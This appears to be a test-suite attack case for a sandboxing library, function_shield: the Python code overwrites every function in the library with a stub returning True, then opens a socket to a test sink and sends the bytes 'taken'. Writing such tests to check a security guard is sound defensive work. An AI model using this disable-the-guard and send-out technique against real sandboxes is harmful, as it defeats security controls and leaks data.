# class: switch_off
# rule: outbound_connectivity
# success: every function of function_shield is replaced, and a connection goes out
# proof: sink
import socket

from attack import SINK, attempt

try:
    import function_shield as module
except ImportError:
    module = None


@attempt
def connect():
    if module:
        for name in dir(module):
            if callable(getattr(module, name)):
                setattr(module, name, lambda *a, **k: True)
    socket.create_connection(SINK, timeout=3).send(b"taken")
    return True
